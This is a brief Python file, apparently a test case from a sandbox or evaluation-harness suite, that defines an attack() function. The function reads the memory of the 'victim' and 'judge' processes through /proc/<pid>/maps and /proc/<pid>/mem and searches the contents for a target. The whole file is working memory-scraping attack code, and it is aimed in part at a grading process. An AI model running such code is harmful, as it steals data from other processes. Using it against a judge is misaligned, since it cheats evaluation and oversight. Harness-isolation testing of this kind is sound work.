"""The memory of another process, by /proc."""
# ruff: noqa


def attack():
    for pid in (FACTS["victim"], FACTS["judge"]):
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb")
        except OSError:
            continue
        for line in maps:
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                memory.seek(low)
                found = hunt(memory.read(high - low))
            except (OSError, ValueError, OverflowError):
                continue
            if found:
                return found
